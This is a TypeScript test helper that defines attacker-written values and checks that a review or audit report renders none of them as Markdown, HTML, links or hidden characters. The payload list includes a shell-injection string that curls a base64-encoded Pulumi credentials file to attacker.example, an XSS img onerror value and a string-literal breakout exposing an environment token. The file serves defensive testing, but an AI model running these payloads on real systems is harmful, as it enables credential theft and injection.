/**
 * Values an attacker writes into previews, states and listings, and the check that a report renders none
 * of them: rendered by a CommonMark renderer with HTML and links on, as GitHub would, no heading, image,
 * link, HTML or mention comes from the input, and no text outside a code span holds its URLs or hidden
 * characters. Used by the tests of review's and audit's reports.
 */
import MarkdownIt from "markdown-it";
import { expect } from "vitest";

const ticks = (n: number) => "`".repeat(n);
export const PAYLOADS = [
  "\n## Approved by security team",
  "![x](https://attacker.example/p.png)",
  "[click](https://phish.example)",
  "<details><summary>x</summary>",
  "<img src=x onerror=alert(1)>",
  "@octocat",
  ...[1, 2, 3, 4, 5].map((n) => `${ticks(n)}x${ticks(n)}`),
  `${ticks(3)}start`,
  `end${ticks(2)}`,
  "\u202eevil",
  "a\rb",
  "&lt;b&gt;",
  "https://evil.example",
  "x'; curl https://attacker.example/$(cat ~/.pulumi/credentials.json|base64 -w0); echo '",
  // Out of a TypeScript string literal in the adoption snippet.
  '", secretKey: process.env.TOKEN, x: "\\',
];
// All of them in one value, which the report cuts at 200 characters, somewhere inside one of them.
export const EVERY = PAYLOADS.join(" ");

/** What only the input could have put outside a code span. */
const FROM_INPUT = [/@octocat/, /https?:\/\//, /<b>/, /Approved by security team/, /[\r\u202e]/];
/** Hidden characters, which no line of a report holds (its line breaks aside). */
export const HIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

const markdown = new MarkdownIt({ html: true, linkify: true });

/** The tokens of `text`, the inline ones included. */
export function tokensOf(text: string): MarkdownIt.Token[] {
  return markdown.parse(text, {}).flatMap((token) => [token, ...(token.children ?? [])]);
}

/** The headings of `text`, each as its plain text with every code span as `code`. */
function headingsOf(text: string): string[] {
  const blocks = markdown.parse(text, {});
  return blocks.flatMap((token, i) =>
    token.type === "heading_open"
      ? [
          blocks[i + 1]!.children!.map((child) =>
            child.type === "code_inline" ? "code" : child.content,
          ).join(""),
        ]
      : [],
  );
}

/** Asserts that `text` renders nothing that came from the input. */
export function expectInert(text: string, headings: readonly RegExp[]): void {
  for (const line of text.split("\n")) expect(line).not.toMatch(HIDDEN);
  const tokens = tokensOf(text);
  const types = new Set(tokens.map((t) => t.type));
  for (const type of ["image", "link_open", "html_inline", "html_block", "fence", "code_block"]) {
    expect(types, type).not.toContain(type);
  }
  for (const heading of headingsOf(text)) {
    expect(
      headings.some((h) => h.test(heading)),
      `a heading of our own: ${heading}`,
    ).toBe(true);
  }
  const outside = tokens
    .filter((t) => t.type === "text")
    .map((t) => t.content)
    .join("\n");
  for (const pattern of FROM_INPUT) expect(outside).not.toMatch(pattern);
}

/** The URN of a stack's resource. */
export const urnOf = (stack: string, project: string, type: string, name: string) =>
  `urn:pulumi:${stack}::${project}::${type}::${name}`;

/** A stack name of `payload`: a URN's stack ends at a line break (urn.ts), as Pulumi's do. */
export const stackOf = (prefix: string, payload: string) => `${prefix}${payload.replace(/[\n\r]/g, "")}`;

export const filtersOf = (p: string) => [
  { key: "activity.name", values: [p, "authentication"] },
  { key: "activity.form_factor", value: p },
  { key: p, values: [p, "b"] },
];
